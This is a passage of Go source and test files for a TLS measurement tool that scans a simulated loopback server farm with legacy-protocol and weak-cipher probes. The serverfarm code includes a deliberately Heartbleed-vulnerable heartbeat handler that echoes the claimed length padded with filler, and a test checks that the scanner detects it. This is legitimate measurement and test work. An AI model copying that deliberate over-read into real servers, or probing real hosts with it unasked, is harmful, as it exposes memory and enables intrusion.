func (h *Host) serve(conn net.Conn) {
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(h.timeout))

	reply, err := h.answer(conn)
	if err != nil {
		return // malformed or timed-out client; drop silently like real boxes
	}
	if _, err := conn.Write(reply); err != nil {
		return
	}
	h.mu.Lock()
	h.served++
	h.mu.Unlock()

	if h.cfg.HeartbeatEnabled {
		h.serveHeartbeat(conn)
	}
}

// serveHeartbeat answers one heartbeat record. A patched implementation
// follows RFC 6520 and silently discards requests whose payload_length
// exceeds the message; the Heartbleed-vulnerable implementation trusts the
// claimed length and echoes that many bytes — leaking "process memory"
// (deterministic filler here).
func (h *Host) serveHeartbeat(conn net.Conn) {
	rec, err := wire.ReadRecord(conn)
	if err != nil || rec.Type != wire.ContentHeartbeat {
		return
	}
	var req wire.HeartbeatMessage
	var payload []byte
	if h.cfg.HeartbleedVulnerable {
		if err := req.BuggyDecode(rec.Payload); err != nil || req.Type != wire.HeartbeatRequest {
			return
		}
		// The bug: echo payload_length bytes regardless of what arrived.
		n := int(req.PayloadLength)
		if n > 1<<14-32 {
			n = 1<<14 - 32
		}
		payload = make([]byte, n)
		copy(payload, req.Payload)
		for i := len(req.Payload); i < n; i++ {
			payload[i] = byte(0x40 + i%23) // "leaked memory"
		}
	} else {
		if err := req.DecodeFromBytes(rec.Payload); err != nil || req.Type != wire.HeartbeatRequest {
			return // RFC 6520: discard silently
		}
		payload = req.Payload
	}
	resp := wire.HeartbeatMessage{
		Type:          wire.HeartbeatResponse,
		PayloadLength: uint16(len(payload)),
		Payload:       payload,
	}
	raw, err := resp.MarshalBinary()
	if err != nil {
		return
	}
	out, err := wire.AppendRecord(nil, wire.ContentHeartbeat, registry.VersionTLS12, raw)
	if err != nil {
		return
	}
	_, _ = conn.Write(out)
}

// answer reads one hello from the connection and produces the response
// bytes.
func (h *Host) answer(conn net.Conn) ([]byte, error) {
	// Peek the first byte to disambiguate SSLv2 from TLS record framing.
	var first [1]byte
	if _, err := io.ReadFull(conn, first[:]); err != nil {
		return nil, err
	}
	if first[0]&0x80 != 0 {
		return h.answerSSLv2(conn, first[0])
	}
	return h.answerTLS(conn, first[0])
}

func (h *Host) answerTLS(conn net.Conn, firstByte byte) ([]byte, error) {
	var rest [4]byte
	if _, err := io.ReadFull(conn, rest[:]); err != nil {
		return nil, err
	}
	length := int(rest[2])<<8 | int(rest[3])
	if length > 1<<14 {
		return nil, errors.New("serverfarm: oversized record")
	}
	payload := make([]byte, length)
	if _, err := io.ReadFull(conn, payload); err != nil {
		return nil, err
	}
	if wire.ContentType(firstByte) != wire.ContentHandshake {
		return nil, errors.New("serverfarm: not a handshake record")
	}
	typ, body, _, err := wire.DecodeHandshake(payload)
	if err != nil || typ != wire.TypeClientHello {
		return nil, errors.New("serverfarm: not a client hello")
	}
	var ch wire.ClientHello
	if err := ch.DecodeFromBytes(body); err != nil {
		return nil, err
	}

	res := handshake.Negotiate(&ch, h.cfg)
	if !res.OK {
		alert, _ := res.Alert.MarshalBinary()
		return wire.AppendRecord(nil, wire.ContentAlert, registry.VersionTLS10, alert)
	}
	return res.ServerHello.AppendRecord(nil)
}

// answerSSLv2 handles an SSLv2 2-byte-header CLIENT-HELLO.
func (h *Host) answerSSLv2(conn net.Conn, firstByte byte) ([]byte, error) {
	var second [1]byte
	if _, err := io.ReadFull(conn, second[:]); err != nil {
		return nil, err
	}
	length := int(firstByte&0x7f)<<8 | int(second[0])
	if length > 1<<14 {
		return nil, errors.New("serverfarm: oversized sslv2 record")
	}
	body := make([]byte, length)
	if _, err := io.ReadFull(conn, body); err != nil {
		return nil, err
	}
	raw := append([]byte{firstByte, second[0]}, body...)
	var v2 wire.SSLv2ClientHello
	if err := v2.DecodeFromBytes(raw); err != nil {
		return nil, err
	}
	res := handshake.NegotiateSSLv2(&v2, h.cfg)
	if !res.OK {
		// SSLv2-intolerant servers just drop; emulate with a TLS alert.
		alert, _ := res.Alert.MarshalBinary()
		return wire.AppendRecord(nil, wire.ContentAlert, registry.VersionSSL3, alert)
	}
	// Emulate a minimal SSLv2 SERVER-HELLO: 2-byte header, type 4, then the
	// chosen cipher in the low bytes. The scanner only needs the cipher echo.
	msg := []byte{4, 0, 0, byte(res.Suite >> 8), byte(res.Suite)}
	out := []byte{0x80 | byte(len(msg)>>8), byte(len(msg))}
	return append(out, msg...), nil
}

// Farm is a set of hosts sampled from a server population snapshot.
type Farm struct {
	Hosts []*Host
}

// Close shuts every host down.
func (f *Farm) Close() error {
	var firstErr error
	for _, h := range f.Hosts {
		if err := h.Close(); err != nil && firstErr == nil {
			firstErr = err
		}
	}
	return firstErr
}

// Addrs returns the hosts' listen addresses.
func (f *Farm) Addrs() []string {
	out := make([]string, len(f.Hosts))
	for i, h := range f.Hosts {
		out[i] = h.Addr()
	}
	return out
}

// StartFarm launches n hosts on loopback with the provided configurations.
// configs[i] pairs with cohorts[i].
func StartFarm(configs []*handshake.ServerConfig, cohorts []string, timeout time.Duration) (*Farm, error) {
	if len(configs) != len(cohorts) {
		return nil, errors.New("serverfarm: configs and cohorts length mismatch")
	}
	farm := &Farm{}
	for i, cfg := range configs {
		h, err := StartHost("127.0.0.1:0", cohorts[i], cfg, timeout)
		if err != nil {
			farm.Close()
			return nil, err
		}
		farm.Hosts = append(farm.Hosts, h)
	}
	return farm, nil
}
