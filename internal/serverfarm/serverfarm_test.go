package serverfarm

import (
	"net"
	"testing"
	"time"

	"tlsage/internal/handshake"
	"tlsage/internal/registry"
	"tlsage/internal/wire"
)

func testCfg() *handshake.ServerConfig {
	return &handshake.ServerConfig{
		Name: "t", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12,
		Suites: []uint16{0xC02F, 0x002F, 0x0035},
		Curves: []registry.CurveID{registry.CurveSecp256r1},
	}
}

func dialHello(t *testing.T, addr string, ch *wire.ClientHello) wire.Record {
	t.Helper()
	conn, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
	raw, err := ch.AppendRecord(nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(raw); err != nil {
		t.Fatal(err)
	}
	rec, err := wire.ReadRecord(conn)
	if err != nil {
		t.Fatal(err)
	}
	return rec
}

func TestHostAnswersHello(t *testing.T) {
	h, err := StartHost("127.0.0.1:0", "t", testCfg(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	if h.Cohort() != "t" || h.Config() == nil {
		t.Error("accessors broken")
	}
	ch := &wire.ClientHello{
		Version:      registry.VersionTLS12,
		CipherSuites: []uint16{0x002F},
	}
	rec := dialHello(t, h.Addr(), ch)
	if rec.Type != wire.ContentHandshake {
		t.Fatalf("got record type %v", rec.Type)
	}
	if h.Served() != 1 {
		t.Errorf("served = %d", h.Served())
	}
}

func TestHostAlertsOnNoCommonSuite(t *testing.T) {
	h, err := StartHost("127.0.0.1:0", "t", testCfg(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	ch := &wire.ClientHello{
		Version:      registry.VersionTLS12,
		CipherSuites: []uint16{0x1301}, // TLS 1.3 suite only
	}
	rec := dialHello(t, h.Addr(), ch)
	if rec.Type != wire.ContentAlert {
		t.Fatalf("expected alert, got %v", rec.Type)
	}
	var alert wire.Alert
	if err := alert.DecodeFromBytes(rec.Payload); err != nil {
		t.Fatal(err)
	}
	if alert.Description != wire.AlertHandshakeFailure {
		t.Errorf("alert = %v", alert)
	}
}

func TestHostCloseIdempotent(t *testing.T) {
	h, err := StartHost("127.0.0.1:0", "t", testCfg(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	if err := h.Close(); err != nil {
		t.Fatal("second close should be a no-op")
	}
	// Dial after close fails.
	if _, err := net.DialTimeout("tcp", h.Addr(), 200*time.Millisecond); err == nil {
		t.Error("listener still accepting after close")
	}
}

func TestStartHostRejectsInvalidConfig(t *testing.T) {
	bad := &handshake.ServerConfig{Name: "bad", MinVersion: registry.VersionTLS12,
		MaxVersion: registry.VersionTLS10, Suites: []uint16{0x002F}}
	if _, err := StartHost("127.0.0.1:0", "bad", bad, time.Second); err == nil {
		t.Fatal("invalid config accepted")
	}
}

func TestStartFarmMismatch(t *testing.T) {
	if _, err := StartFarm([]*handshake.ServerConfig{testCfg()}, nil, time.Second); err == nil {
		t.Fatal("mismatched lengths accepted")
	}
}

func TestFarmAddrs(t *testing.T) {
	farm, err := StartFarm(
		[]*handshake.ServerConfig{testCfg(), testCfg()},
		[]string{"a", "b"}, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer farm.Close()
	addrs := farm.Addrs()
	if len(addrs) != 2 || addrs[0] == addrs[1] {
		t.Errorf("addrs = %v", addrs)
	}
}

func TestHeartbeatExchangeCorrectServer(t *testing.T) {
	cfg := testCfg()
	cfg.HeartbeatEnabled = true
	h, err := StartHost("127.0.0.1:0", "hb", cfg, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	conn, err := net.DialTimeout("tcp", h.Addr(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
	ch := &wire.ClientHello{
		Version:      registry.VersionTLS12,
		CipherSuites: []uint16{0x002F},
		Extensions:   []wire.Extension{wire.NewHeartbeatExtension(1)},
	}
	raw, _ := ch.AppendRecord(nil)
	if _, err := conn.Write(raw); err != nil {
		t.Fatal(err)
	}
	if _, err := wire.ReadRecord(conn); err != nil {
		t.Fatal(err)
	}
	// Well-formed heartbeat request: echoed payload, no over-read.
	req := wire.HeartbeatMessage{Type: wire.HeartbeatRequest, PayloadLength: 4, Payload: []byte{1, 2, 3, 4}}
	hb, _ := req.MarshalBinary()
	out, _ := wire.AppendRecord(nil, wire.ContentHeartbeat, registry.VersionTLS12, hb)
	if _, err := conn.Write(out); err != nil {
		t.Fatal(err)
	}
	rec, err := wire.ReadRecord(conn)
	if err != nil || rec.Type != wire.ContentHeartbeat {
		t.Fatalf("heartbeat response: %v %v", rec.Type, err)
	}
	var resp wire.HeartbeatMessage
	if err := resp.DecodeFromBytes(rec.Payload); err != nil {
		t.Fatal(err)
	}
	if resp.Type != wire.HeartbeatResponse || len(resp.Payload) != 4 {
		t.Errorf("response: %+v", resp)
	}
}

func writeRaw(t *testing.T, addr string, raw []byte) (int, []byte) {
	t.Helper()
	conn, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(700 * time.Millisecond))
	if _, err := conn.Write(raw); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 64)
	n, _ := conn.Read(buf)
	return n, buf[:n]
}

func TestHostDropsOversizedRecord(t *testing.T) {
	h, err := StartHost("127.0.0.1:0", "t", testCfg(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	// Claimed record length 0xffff exceeds 2^14.
	if n, _ := writeRaw(t, h.Addr(), []byte{22, 3, 1, 0xff, 0xff}); n != 0 {
		t.Errorf("oversized record got %d-byte answer", n)
	}
}

func TestHostDropsNonHandshakeRecord(t *testing.T) {
	h, err := StartHost("127.0.0.1:0", "t", testCfg(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	raw, _ := wire.AppendRecord(nil, wire.ContentAlert, registry.VersionTLS10, []byte{1, 0})
	if n, _ := writeRaw(t, h.Addr(), raw); n != 0 {
		t.Errorf("alert record got %d-byte answer", n)
	}
}

func TestHostDropsNonHelloHandshake(t *testing.T) {
	h, err := StartHost("127.0.0.1:0", "t", testCfg(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	msg, _ := wire.AppendHandshake(nil, wire.TypeServerHello, []byte{1, 2, 3})
	raw, _ := wire.AppendRecord(nil, wire.ContentHandshake, registry.VersionTLS10, msg)
	if n, _ := writeRaw(t, h.Addr(), raw); n != 0 {
		t.Errorf("server-hello-in got %d-byte answer", n)
	}
}

func TestHostDropsMalformedSSLv2(t *testing.T) {
	cfg := testCfg()
	cfg.SupportsSSLv2 = true
	cfg.MinVersion = registry.VersionSSL2
	h, err := StartHost("127.0.0.1:0", "t", cfg, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	// High-bit header but garbage body.
	if n, _ := writeRaw(t, h.Addr(), []byte{0x80, 0x03, 0xFF, 0xFF, 0xFF}); n != 0 {
		t.Errorf("garbage sslv2 got %d-byte answer", n)
	}
}
