package scanner

import (
	"math/rand"

	"tlsage/internal/registry"
	"tlsage/internal/wire"
)

// Probe is a named scan configuration: a generator for the ClientHello a
// campaign sends to every target.
type Probe struct {
	Name  string
	Build func(rnd *rand.Rand) *wire.ClientHello
}

// chrome2015Suites is the cipher list of the Censys default scan: "the same
// set of cipher suites as a 2015 version of Chrome including a number of
// strong ciphers such as AES-GCM cipher suites with forward secrecy, as well
// as weaker CBC, RC4, and 3DES cipher suites" (§3.2). 3DES sits at the
// bottom, which is why the §5.6 "servers choosing 3DES" number is meaningful.
var chrome2015Suites = []uint16{
	0xC02B, 0xC02F, 0xC02C, 0xC030, // ECDHE AES-GCM
	0xCC14, 0xCC13, // draft ChaCha20
	0x009E, 0x009F, // DHE AES-GCM
	0xC023, 0xC027, 0xC009, 0xC013, 0xC024, 0xC028, 0xC00A, 0xC014, // ECDHE CBC
	0x0067, 0x0033, 0x006B, 0x0039, // DHE CBC
	0x009C, 0x009D, // RSA GCM
	0x003C, 0x002F, 0x003D, 0x0035, // RSA CBC
	0xC011, 0xC007, 0x0005, 0x0004, // RC4
	0x000A, 0xC012, 0x0016, // 3DES at the bottom
}

func chromeExtensions(hb bool) []wire.Extension {
	exts := []wire.Extension{
		wire.NewSupportedGroupsExtension([]registry.CurveID{
			registry.CurveSecp256r1, registry.CurveSecp384r1, registry.CurveSecp521r1,
		}),
		wire.NewECPointFormatsExtension([]registry.ECPointFormat{registry.PointFormatUncompressed}),
	}
	if hb {
		exts = append(exts, wire.NewHeartbeatExtension(1))
	}
	return exts
}

func randomized(rnd *rand.Rand, ch *wire.ClientHello) *wire.ClientHello {
	if rnd != nil {
		rnd.Read(ch.Random[:])
	}
	return ch
}

// Chrome2015 is the Censys default probe. It also offers the heartbeat
// extension so heartbeat support (§5.4) is measured in the same sweep.
func Chrome2015() Probe {
	return Probe{
		Name: "chrome2015",
		Build: func(rnd *rand.Rand) *wire.ClientHello {
			return randomized(rnd, &wire.ClientHello{
				Version:      registry.VersionTLS12,
				CipherSuites: append([]uint16(nil), chrome2015Suites...),
				Extensions:   chromeExtensions(true),
			})
		},
	}
}

// SSL3Only reproduces the weekly Censys scan that offers SSL 3 as the sole
// protocol version (§3.2): a server answering it still supports SSL 3.
func SSL3Only() Probe {
	return Probe{
		Name: "ssl3only",
		Build: func(rnd *rand.Rand) *wire.ClientHello {
			return randomized(rnd, &wire.ClientHello{
				Version: registry.VersionSSL3,
				CipherSuites: []uint16{
					0x0005, 0x0004, 0x000A, 0x002F, 0x0035, 0x0009,
				},
			})
		},
	}
}

// ExportOnly reproduces the export-grade support scan (§3.2, FREAK/Logjam):
// only export suites are offered.
func ExportOnly() Probe {
	return Probe{
		Name: "exportonly",
		Build: func(rnd *rand.Rand) *wire.ClientHello {
			return randomized(rnd, &wire.ClientHello{
				Version: registry.VersionTLS10,
				CipherSuites: []uint16{
					0x0003, 0x0006, 0x0008, 0x0014, 0x0011, 0x0060, 0x0062,
				},
			})
		},
	}
}

// DHEOnly probes for DHE_EXPORT-style downgrades by offering only DHE
// suites (the Logjam precondition measurement).
func DHEOnly() Probe {
	return Probe{
		Name: "dheonly",
		Build: func(rnd *rand.Rand) *wire.ClientHello {
			return randomized(rnd, &wire.ClientHello{
				Version:      registry.VersionTLS12,
				CipherSuites: []uint16{0x009E, 0x009F, 0x0033, 0x0039, 0x0067, 0x006B},
			})
		},
	}
}

// RC4Only probes for RC4 *support* the way SSL Pulse measured it for the
// Alexa top sites (§5.3: 92.8% in Oct 2013 → 19.1%): only RC4 suites are
// offered, so any ServerHello proves support.
func RC4Only() Probe {
	return Probe{
		Name: "rc4only",
		Build: func(rnd *rand.Rand) *wire.ClientHello {
			return randomized(rnd, &wire.ClientHello{
				Version:      registry.VersionTLS12,
				CipherSuites: []uint16{0x0005, 0x0004, 0xC011, 0xC007},
				Extensions:   chromeExtensions(false),
			})
		},
	}
}

// AllProbes returns the campaign's probe set.
func AllProbes() []Probe {
	return []Probe{Chrome2015(), SSL3Only(), ExportOnly(), DHEOnly(), RC4Only()}
}
