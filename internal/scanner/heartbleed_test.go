package scanner

import (
	"context"
	"testing"
	"time"

	"tlsage/internal/handshake"
	"tlsage/internal/registry"
)

func vulnerableCfg() *handshake.ServerConfig {
	cfg := modernCfg()
	cfg.Name = "vulnerable"
	cfg.HeartbeatEnabled = true
	cfg.HeartbleedVulnerable = true
	return cfg
}

func TestHeartbleedCheckDistinguishesServers(t *testing.T) {
	patched := heartbeatCfg() // heartbeat on, patched
	vuln := vulnerableCfg()   // heartbeat on, unpatched
	noHB := modernCfg()       // no heartbeat at all
	farm := startFarm(t, patched, vuln, noHB)

	sc := New(4)
	sc.Timeout = 2 * time.Second
	results, err := sc.ScanHeartbleed(context.Background(), farm.Addrs())
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 3 {
		t.Fatalf("got %d results", len(results))
	}
	byTarget := map[string]HeartbleedResult{}
	for _, r := range results {
		byTarget[r.Target] = r
	}
	p := byTarget[farm.Hosts[0].Addr()]
	if !p.HeartbeatAck || p.Vulnerable {
		t.Errorf("patched server: %+v", p)
	}
	v := byTarget[farm.Hosts[1].Addr()]
	if !v.HeartbeatAck || !v.Vulnerable {
		t.Errorf("vulnerable server not detected: %+v", v)
	}
	if v.LeakedBytes != hbClaim-hbSent {
		t.Errorf("leaked %d bytes, want %d", v.LeakedBytes, hbClaim-hbSent)
	}
	n := byTarget[farm.Hosts[2].Addr()]
	if n.HeartbeatAck || n.Vulnerable {
		t.Errorf("heartbeat-less server: %+v", n)
	}
}

func TestHeartbleedCheckUnreachable(t *testing.T) {
	sc := New(1)
	sc.Timeout = 300 * time.Millisecond
	results, err := sc.ScanHeartbleed(context.Background(), []string{"127.0.0.1:1"})
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 1 || results[0].Err == nil || results[0].Vulnerable {
		t.Errorf("unexpected: %+v", results)
	}
}

func TestRC4OnlyProbe(t *testing.T) {
	rc4Server := legacyRC4Cfg()
	modernNoRC4 := &handshake.ServerConfig{
		Name: "norc4", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12,
		Suites: []uint16{0xC02F, 0x002F, 0x0035},
		Curves: []registry.CurveID{registry.CurveSecp256r1},
	}
	farm := startFarm(t, rc4Server, modernNoRC4)
	sc := New(2)
	hello := RC4Only().Build(nil)
	results, err := sc.Scan(context.Background(), farm.Addrs(), hello)
	if err != nil {
		t.Fatal(err)
	}
	sum := Summarize(results)
	if sum.Answered != 1 || sum.ChoseRC4 != 1 {
		t.Errorf("RC4-only probe: %+v", sum)
	}
	if sum.Alerted != 1 {
		t.Errorf("RC4-less server should alert: %+v", sum)
	}
}
