package scanner

import "tlsage/internal/registry"

// Summary aggregates a scan sweep into the fractions the paper reports from
// Censys data.
type Summary struct {
	Targets      int
	Answered     int // ServerHello received
	Alerted      int
	Errors       int
	ChoseRC4     int
	ChoseCBC     int
	Chose3DES    int
	ChoseAEAD    int
	ChoseNULL    int
	ChoseExport  int
	HeartbeatAck int
	ByVersion    map[registry.Version]int
}

// Summarize folds scan results.
func Summarize(results []Result) Summary {
	s := Summary{ByVersion: make(map[registry.Version]int)}
	s.Targets = len(results)
	for _, r := range results {
		switch {
		case r.Err != nil:
			s.Errors++
			continue
		case r.Alerted:
			s.Alerted++
			continue
		}
		s.Answered++
		s.ByVersion[r.Version]++
		suite, ok := registry.SuiteByID(r.Suite)
		if !ok {
			continue
		}
		switch {
		case suite.IsRC4():
			s.ChoseRC4++
		case suite.Is3DES():
			s.Chose3DES++
		case suite.IsCBC():
			s.ChoseCBC++
		case suite.IsAEAD():
			s.ChoseAEAD++
		}
		if suite.IsNULLCipher() {
			s.ChoseNULL++
		}
		if suite.IsExport() {
			s.ChoseExport++
		}
		if r.HeartbeatAck {
			s.HeartbeatAck++
		}
	}
	return s
}

// Frac returns n as a fraction of scanned targets (0 when empty).
func (s Summary) Frac(n int) float64 {
	if s.Targets == 0 {
		return 0
	}
	return float64(n) / float64(s.Targets)
}

// CBCTotal counts servers choosing any CBC-mode suite (3DES included), the
// §5.2 metric.
func (s Summary) CBCTotal() int { return s.ChoseCBC + s.Chose3DES }
