package scanner

import (
	"context"
	"math/rand"
	"net"
	"testing"
	"time"

	"tlsage/internal/handshake"
	"tlsage/internal/registry"
	"tlsage/internal/serverfarm"
	"tlsage/internal/wire"
)

func modernCfg() *handshake.ServerConfig {
	return &handshake.ServerConfig{
		Name: "modern", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12,
		Suites:            []uint16{0xC02F, 0xC030, 0xC013, 0xC014, 0x009C, 0x002F, 0x0035, 0x000A},
		PreferServerOrder: true,
		Curves:            []registry.CurveID{registry.CurveSecp256r1},
	}
}

func legacyRC4Cfg() *handshake.ServerConfig {
	return &handshake.ServerConfig{
		Name: "rc4", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS10,
		Suites:            []uint16{0x0005, 0x0004, 0x002F, 0x0035, 0x000A},
		PreferServerOrder: true,
	}
}

func heartbeatCfg() *handshake.ServerConfig {
	cfg := modernCfg()
	cfg.Name = "hb"
	cfg.HeartbeatEnabled = true
	return cfg
}

func startFarm(t *testing.T, cfgs ...*handshake.ServerConfig) *serverfarm.Farm {
	t.Helper()
	cohorts := make([]string, len(cfgs))
	for i, c := range cfgs {
		cohorts[i] = c.Name
	}
	farm, err := serverfarm.StartFarm(cfgs, cohorts, 2*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { farm.Close() })
	return farm
}

func TestScanChrome2015AgainstFarm(t *testing.T) {
	farm := startFarm(t, modernCfg(), legacyRC4Cfg(), heartbeatCfg())
	sc := New(4)
	sc.Timeout = 2 * time.Second
	hello := Chrome2015().Build(rand.New(rand.NewSource(1)))
	results, err := sc.Scan(context.Background(), farm.Addrs(), hello)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 3 {
		t.Fatalf("got %d results", len(results))
	}
	byTarget := map[string]Result{}
	for _, r := range results {
		byTarget[r.Target] = r
	}
	modern := byTarget[farm.Hosts[0].Addr()]
	if !modern.OK || modern.Suite != 0xC02F || modern.Version != registry.VersionTLS12 {
		t.Errorf("modern host: %+v", modern)
	}
	rc4 := byTarget[farm.Hosts[1].Addr()]
	if !rc4.OK || rc4.Suite != 0x0005 || rc4.Version != registry.VersionTLS10 {
		t.Errorf("rc4 host: %+v", rc4)
	}
	hb := byTarget[farm.Hosts[2].Addr()]
	if !hb.OK || !hb.HeartbeatAck {
		t.Errorf("heartbeat host: %+v", hb)
	}
	if modern.HeartbeatAck {
		t.Error("modern host should not ack heartbeat")
	}
	if modern.RTT <= 0 {
		t.Error("missing RTT")
	}

	sum := Summarize(results)
	if sum.Answered != 3 || sum.ChoseRC4 != 1 || sum.ChoseAEAD != 2 {
		t.Errorf("summary: %+v", sum)
	}
	if sum.HeartbeatAck != 1 {
		t.Errorf("heartbeat count: %+v", sum)
	}
	if sum.Frac(sum.ChoseRC4) < 0.32 || sum.Frac(sum.ChoseRC4) > 0.35 {
		t.Errorf("Frac broken: %v", sum.Frac(sum.ChoseRC4))
	}
}

func TestSSL3OnlyProbe(t *testing.T) {
	ssl3Server := &handshake.ServerConfig{
		Name: "old", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS12,
		Suites: []uint16{0x002F, 0x0035, 0x0005, 0x000A},
	}
	modernOnly := modernCfg()
	modernOnly.MinVersion = registry.VersionTLS10
	farm := startFarm(t, ssl3Server, modernOnly)

	sc := New(2)
	hello := SSL3Only().Build(rand.New(rand.NewSource(2)))
	results, err := sc.Scan(context.Background(), farm.Addrs(), hello)
	if err != nil {
		t.Fatal(err)
	}
	byTarget := map[string]Result{}
	for _, r := range results {
		byTarget[r.Target] = r
	}
	old := byTarget[farm.Hosts[0].Addr()]
	if !old.OK || old.Version != registry.VersionSSL3 {
		t.Errorf("SSL3-capable server should answer: %+v", old)
	}
	modern := byTarget[farm.Hosts[1].Addr()]
	if modern.OK || !modern.Alerted {
		t.Errorf("SSL3-intolerant server should alert: %+v", modern)
	}
	sum := Summarize(results)
	if sum.Answered != 1 || sum.Alerted != 1 {
		t.Errorf("summary: %+v", sum)
	}
}

func TestExportOnlyProbe(t *testing.T) {
	exportServer := &handshake.ServerConfig{
		Name: "export", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS10,
		Suites: []uint16{0x002F, 0x0003, 0x0008},
	}
	farm := startFarm(t, exportServer, modernCfg())
	sc := New(2)
	hello := ExportOnly().Build(rand.New(rand.NewSource(3)))
	results, err := sc.Scan(context.Background(), farm.Addrs(), hello)
	if err != nil {
		t.Fatal(err)
	}
	sum := Summarize(results)
	if sum.ChoseExport != 1 {
		t.Errorf("export support miscounted: %+v", sum)
	}
}

func TestScanUnreachableTarget(t *testing.T) {
	sc := New(1)
	sc.Timeout = 300 * time.Millisecond
	results, err := sc.Scan(context.Background(), []string{"127.0.0.1:1"}, // closed port
		Chrome2015().Build(rand.New(rand.NewSource(4))))
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 1 || results[0].Err == nil {
		t.Errorf("expected dial error: %+v", results)
	}
	sum := Summarize(results)
	if sum.Errors != 1 {
		t.Errorf("summary: %+v", sum)
	}
}

func TestScanContextCancellation(t *testing.T) {
	// A listener that accepts but never responds.
	cfg := modernCfg()
	farm := startFarm(t, cfg)
	targets := make([]string, 200)
	for i := range targets {
		targets[i] = farm.Hosts[0].Addr()
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel() // cancel before starting
	sc := New(8)
	_, err := sc.Scan(ctx, targets, Chrome2015().Build(rand.New(rand.NewSource(5))))
	if err == nil {
		t.Error("cancelled scan should report context error")
	}
}

func TestScanConcurrencyCompletes(t *testing.T) {
	farm := startFarm(t, modernCfg(), legacyRC4Cfg())
	var targets []string
	for i := 0; i < 60; i++ {
		targets = append(targets, farm.Hosts[i%2].Addr())
	}
	sc := New(16)
	sc.Timeout = 2 * time.Second
	results, err := sc.Scan(context.Background(), targets, Chrome2015().Build(rand.New(rand.NewSource(6))))
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 60 {
		t.Fatalf("got %d/60 results", len(results))
	}
	sum := Summarize(results)
	if sum.Answered != 60 {
		t.Errorf("all probes should be answered: %+v", sum)
	}
	if farm.Hosts[0].Served()+farm.Hosts[1].Served() != 60 {
		t.Errorf("farm served %d+%d", farm.Hosts[0].Served(), farm.Hosts[1].Served())
	}
}

func TestFarmAnswersSSLv2(t *testing.T) {
	cfg := &handshake.ServerConfig{
		Name: "nagios", MinVersion: registry.VersionSSL2, MaxVersion: registry.VersionTLS10,
		Suites: []uint16{0x001B, 0x0018}, SupportsSSLv2: true,
	}
	farm := startFarm(t, cfg)
	// Hand-roll an SSLv2 exchange since the scanner speaks TLS framing.
	v2 := &wire.SSLv2ClientHello{
		Version:     registry.VersionSSL2,
		CipherSpecs: []uint32{0x010080, 0x000005},
		Challenge:   make([]byte, 16),
	}
	raw, _ := v2.MarshalBinary()
	conn, err := netDial(farm.Hosts[0].Addr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write(raw); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 16)
	n, err := conn.Read(buf)
	if err != nil || n < 5 {
		t.Fatalf("sslv2 response: n=%d err=%v", n, err)
	}
	if buf[0]&0x80 == 0 || buf[2] != 4 {
		t.Errorf("expected sslv2 server-hello, got % x", buf[:n])
	}
}

func TestFarmDropsGarbage(t *testing.T) {
	farm := startFarm(t, modernCfg())
	conn, err := netDial(farm.Hosts[0].Addr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write([]byte{0x16, 0x03, 0x01, 0x00, 0x03, 1, 2, 3}); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 8)
	_ = conn.SetReadDeadline(timeNowPlus(500 * time.Millisecond))
	if n, _ := conn.Read(buf); n != 0 {
		t.Errorf("garbage got a %d-byte answer", n)
	}
	if farm.Hosts[0].Served() != 0 {
		t.Error("garbage counted as served")
	}
}

func TestProbeNames(t *testing.T) {
	names := map[string]bool{}
	for _, p := range AllProbes() {
		if p.Name == "" || p.Build == nil {
			t.Fatalf("malformed probe %+v", p)
		}
		if names[p.Name] {
			t.Fatalf("duplicate probe name %s", p.Name)
		}
		names[p.Name] = true
		hello := p.Build(rand.New(rand.NewSource(7)))
		if len(hello.CipherSuites) == 0 {
			t.Errorf("probe %s offers no suites", p.Name)
		}
		if _, err := hello.MarshalBinary(); err != nil {
			t.Errorf("probe %s does not encode: %v", p.Name, err)
		}
	}
	for _, want := range []string{"chrome2015", "ssl3only", "exportonly", "dheonly"} {
		if !names[want] {
			t.Errorf("missing probe %s", want)
		}
	}
}

// Small indirection helpers keep the tests free of direct net imports noise.
func netDial(addr string) (net.Conn, error) { return net.DialTimeout("tcp", addr, 2*time.Second) }
func timeNowPlus(d time.Duration) time.Time { return time.Now().Add(d) }
