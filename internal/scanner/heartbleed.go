package scanner

import (
	"context"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"tlsage/internal/registry"
